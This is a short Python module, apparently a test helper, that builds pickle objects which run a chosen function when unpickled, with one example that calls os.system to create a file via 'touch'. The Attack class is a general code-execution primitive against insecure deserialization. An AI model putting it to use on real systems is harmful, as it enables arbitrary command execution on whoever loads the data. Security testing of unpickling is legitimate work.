"""Pickles that call functions where they are loaded."""

import os


class Attack:
    """Pickles as a call."""

    def __init__(self, function, *arguments):
        self.call = function, arguments

    def __reduce__(self):
        return self.call


def touch(path):
    """Makes a file where it is loaded."""
    return Attack(os.system, f"touch {path}")
